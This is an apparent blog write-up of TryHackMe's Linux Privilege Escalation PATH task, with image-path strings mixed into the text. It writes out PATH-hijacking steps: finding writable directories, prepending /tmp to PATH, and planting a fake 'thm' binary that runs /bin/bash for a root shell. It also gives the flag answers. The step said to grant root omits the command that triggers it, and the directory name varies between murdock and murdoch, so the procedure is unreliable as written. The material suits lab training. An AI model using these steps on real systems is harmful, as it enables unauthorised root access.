TryHackMe - Linux Privilege Escalation: PATH

TryHackMe - Linux Privilege Escalation: PATH

This article discusses the solution for TryHackMe's Linux Privilege Escalation PATH task so proceed with caution.

I would suggest that you try to solve it on your own as you will learn a lot in the process of attempting. Try to give it your all until you feel that you are really hopelessly stuck.

Privilege Escalation PATH


  • exploiting path folders which we have write access to.

  • see if you have write access to PATH so you can add folders where you have write access to.

    • binaries run in path are usually run under root privileges.

    • copy binary in the folder indicated in path then run a binary containing "/bin/bash" to create a root enabled shell.

What is the odd folder you have write access for?

  1. Run the following command to find write acccess for your user.
find / -writable 2>/dev/null | cut -d "/" -f 2 | sort -u

Running it doesn't provide the answer we need let's go 1 level deeper:

find / -writable 2>/dev/null | cut -d "/" -f 2,3 | grep -v proc | sort -uScreenshot 2024-02-09 at 8 08 11 PM

Answer: home/murdock

What is the content of the flag6.txt file?

  1. First run the following to see the path:
echo $PATH

Screenshot 2024-02-09 at 9 22 52 PM

  1. Let's see if we have any write permissions in any of the $PATH directories.
find / -writable  2>/dev/null | cut -d "/" -f 2,3,4 | grep usr | sort -u

Screenshot 2024-02-09 at 9 45 36 PM1. Unfortunately the writable usr/lib/systemd is notincluded in the path.

  2. We will append /tmp in the PATH by running the following command:

export PATH=/tmp:$PATH
  1. Execute the following command:
cd /tmp
echo "/bin/bash" > thm
chmod 777 thm
  1. Execute the following which will grant you a root access bash terminal
cd /home/murdoch/
  1. Execute cat /home/matt/flag6.txt

    Screenshot 2024-02-09 at 11 13 47 PMAnswer: THM-736628929

Until next time. Keep learning.

Stay stoked and code. :)

I hope you can voluntarilyBuy Me A Coffeeif you found this article useful and give additional support for me tocontinue sharing more content for the community. :)

Thank you very much. :)